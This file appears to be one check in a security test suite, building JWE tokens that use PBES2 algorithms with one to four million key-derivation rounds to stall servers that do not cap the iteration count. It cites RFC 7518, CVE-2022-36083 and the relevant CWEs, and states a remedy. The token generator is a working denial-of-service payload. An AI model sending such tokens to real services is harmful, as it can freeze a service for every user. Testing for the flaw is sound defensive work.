import { encodeSegment } from '../../kit/forge-token.ts'
import { stallAttack } from '../../kit/stall-attack.ts'

/** Rounds of PBKDF2: about a second, and a few. Up to 2^31 may be asked for, which would be minutes. */
const rounds = [1_000_000, 4_000_000]

const makes = (header: object) =>
  `[part(${JSON.stringify(header)}), ...['k'.repeat(40), 'i'.repeat(16), 'c'.repeat(64), 't'.repeat(16)].map((text) => encoded(text))].join('.')`

export default stallAttack({
  id: 'token/jwe-pbes2-p2c',
  rows: ['token.jwe-pbes2-p2c'],
  title: 'An encrypted token whose key is to be derived from a password in millions of rounds',
  requirement: 'RFC 7518 section 4.8.1.2: the receiver limits the count of rounds; ASVS V15.2.2',
  impact: 'One small token without any account stops the chat for everybody, for seconds or minutes.',
  remedy: 'Do not take encrypted tokens; name the algorithms that you use when verifying, PBES2 never among them.',
  severity: 'high',
  cwe: ['CWE-400', 'CWE-770'],
  references: ['RFC 7518 section 4.8.1.2', 'CVE-2022-36083', 'ASVS V15.2.2'],
  provenBy: 'pbes2-unbounded',
  tokens: () =>
    rounds.flatMap((p2c) =>
      ['PBES2-HS256+A128KW', 'PBES2-HS512+A256KW'].map((alg) => {
        const header = {
          alg,
          enc: alg.endsWith('A128KW') ? 'A128CBC-HS256' : 'A256CBC-HS512',
          p2c,
          p2s: 'Z2F0ZWNyYXNo',
        }
        const parts = [header, 'k'.repeat(40), 'i'.repeat(16), 'c'.repeat(64), 't'.repeat(16)]
        return { name: `${alg} with ${p2c} rounds`, token: parts.map(encodeSegment).join('.'), makes: makes(header) }
      }),
    ),
})
